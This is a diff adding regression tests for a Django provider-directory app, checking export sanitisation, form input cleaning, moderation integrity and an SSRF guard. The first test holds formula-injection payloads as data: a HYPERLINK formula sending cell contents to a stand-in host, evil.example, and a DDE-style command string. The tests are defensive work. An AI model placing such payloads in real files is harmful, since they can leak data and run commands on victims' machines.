@@ -1,0 +1,166 @@
+"""Regressions from the security and integrity review of curation and open data."""
+
+import csv
+import io
+import ipaddress
+import zipfile
+from xml.etree import ElementTree
+
+import pytest
+from django.core import mail
+from django.test import Client
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from providers.liveness import _is_public
+from providers.models import Provider, ReviewStatus, Revision, Status
+from providers.moderation import merge, snapshot
+
+from .curation_helpers import link_in, started, submission_data
+from .factories import (
+    ClusterFactory,
+    ModeratorFactory,
+    ProviderFactory,
+    SuperuserFactory,
+    commune,
+    region,
+)
+
+pytestmark = pytest.mark.django_db
+OUESSANT = "ou=Ouessant+%2829%29&local=on"
+
+
+def test_spreadsheet_exports_never_carry_live_formulas(client):
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
+    ProviderFactory(
+        name=name,
+        description="+cmd|' /C calc'!A0",
+        address="@SUM(1+1)",
+        phone="+33 1 99 00 00 01",
+        seat=commune("29155"),
+    )
+    text = b"".join(client.get(f"/prestataires/telecharger.csv?{OUESSANT}").streaming_content)
+    row = next(csv.DictReader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
+    assert row["nom"] == "'" + name
+    assert row["description"].startswith("'+cmd")
+    assert row["adresse"] == "'@SUM(1+1)"
+    assert row["telephone"] == "+33 1 99 00 00 01"  # a phone number stays as it is
+    response = client.get(f"/prestataires/telecharger.xlsx?{OUESSANT}")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert "f" not in {cell.data_type for cell in sheet[2]}  # no formula cell
+
+
+def test_control_characters_never_break_an_export(client):
+    provider = ProviderFactory(seat=commune("29155"))
+    Provider.objects.filter(pk=provider.pk).update(description="Texte\x0bavec\x1bdes\x0ccodes")
+    downloads = {}
+    for extension in ("csv", "ods", "xlsx"):
+        response = client.get(f"/prestataires/telecharger.{extension}?{OUESSANT}")
+        assert response.status_code == 200
+        downloads[extension] = b"".join(response.streaming_content)
+    assert b"\x0b" not in downloads["csv"] and b"\x1b" not in downloads["csv"]
+    content = zipfile.ZipFile(io.BytesIO(downloads["ods"])).read("content.xml")
+    assert b"Texteavecdescodes" in content
+    ElementTree.fromstring(content)  # well-formed XML
+    sheet = load_workbook(io.BytesIO(downloads["xlsx"])).active
+    assert sheet["B2"].value == "Texteavecdescodes"
+
+
+def test_forms_strip_control_characters(client):
+    client.post(
+        "/referencer/",
+        submission_data(description="Ligne un\x0b\nLigne\x1b deux", address="1 rue\x0c Libre"),
+    )
+    provider = Provider.objects.get()
+    assert provider.description == "Ligne un\nLigne deux"
+    assert provider.address == "1 rue Libre"
+
+
+def test_duplicate_warnings_never_reveal_unpublished_listings(client):
+    ProviderFactory(
+        name="Gestion Libre Evry",
+        status=Status.PENDING,
+        seat=commune("91377"),
+        website="https://gestion-libre-evry.example",
+    )
+    page = client.post("/referencer/", submission_data(siren="732829320")).content.decode()
+    assert "peut-être déjà référencée" not in page
+
+
+def test_merging_closes_the_removed_listings_proposals_and_keeps_emails_private():
+    user = SuperuserFactory()
+    keep = ProviderFactory(name="Gardée", email="", show_email=True)
+    gone = ProviderFactory(name="Supprimée", email="privee@x.example", show_email=False)
+    data = snapshot(gone)
+    revision = Revision.objects.create(provider=gone, data=data, submitted_by_email="a@x.example")
+    merge(keep, gone, user)
+    keep.refresh_from_db()
+    revision.refresh_from_db()
+    assert revision.provider == keep and revision.status == ReviewStatus.REJECTED
+    assert keep.email == "privee@x.example" and keep.show_email is False
+
+
+def test_an_archived_listing_cannot_be_edited_through_an_old_link(client):
+    provider = ProviderFactory()
+    client.post(f"/prestataires/{provider.slug}/mise-a-jour/")
+    link = link_in(mail.outbox[0])
+    Provider.objects.filter(pk=provider.pk).update(status=Status.ARCHIVED)
+    response = client.get(link)
+    assert response.status_code == 410
+    assert "ne peut plus être modifiée" in response.content.decode()
+
+
+def test_a_moderator_cannot_approve_a_submission_changed_since_it_was_shown():
+    cluster = ClusterFactory(regions=[region("11")])
+    moderator = Client()
+    moderator.force_login(ModeratorFactory(clusters=[cluster]))
+    provider = ProviderFactory(status=Status.PENDING)
+    shown = provider.updated_at.isoformat()
+    Provider.objects.filter(pk=provider.pk).update(
+        description="Changée après l'affichage", updated_at=timezone.now()
+    )
+    response = moderator.post(
+        f"/admin/providers/provider/moderation/submission/{provider.pk}/",
+        {"decision": "approve", "version": shown},
+        follow=True,
+    )
+    assert "a été modifiée depuis son affichage" in response.content.decode()
+    provider.refresh_from_db()
+    assert provider.status == Status.PENDING
+
+
+@pytest.mark.parametrize("total", ["²", "٣", "99999999999", "-1"])
+def test_adding_a_row_with_a_forged_counter_is_not_a_500(client, total):
+    data = submission_data(**{"offres-TOTAL_FORMS": total, "ajouter_ligne": "1"})
+    assert client.post("/referencer/", data).status_code == 200
+
+
+def test_hidden_listings_can_still_ask_for_an_update_link(client):
+    provider = ProviderFactory(hidden_unreachable=True)
+    assert client.get(f"/prestataires/{provider.slug}/").status_code == 404
+    assert client.post(f"/prestataires/{provider.slug}/mise-a-jour/").status_code == 200
+    assert mail.outbox[0].to == [provider.email]
+
+
+def test_the_confirmation_subject_does_not_repeat_what_a_stranger_typed(client):
+    client.post("/referencer/", submission_data(name="Achetez maintenant !", started=started()))
+    assert mail.outbox[0].subject == "[Annuaire] Confirmez votre demande de référencement"
+
+
+@pytest.mark.parametrize(
+    ("address", "public"),
+    [
+        ("93.184.216.34", True),
+        ("2606:4700::1111", True),
+        ("127.0.0.1", False),
+        ("10.1.2.3", False),
+        ("169.254.169.254", False),
+        ("::1", False),
+        ("::127.0.0.1", False),
+        ("::ffff:127.0.0.1", False),
+        ("64:ff9b::7f00:1", False),
+        ("fd00::1", False),
+    ],
+)
+def test_the_website_checker_only_connects_to_public_addresses(address, public):
+    assert _is_public(ipaddress.ip_address(address)) is public
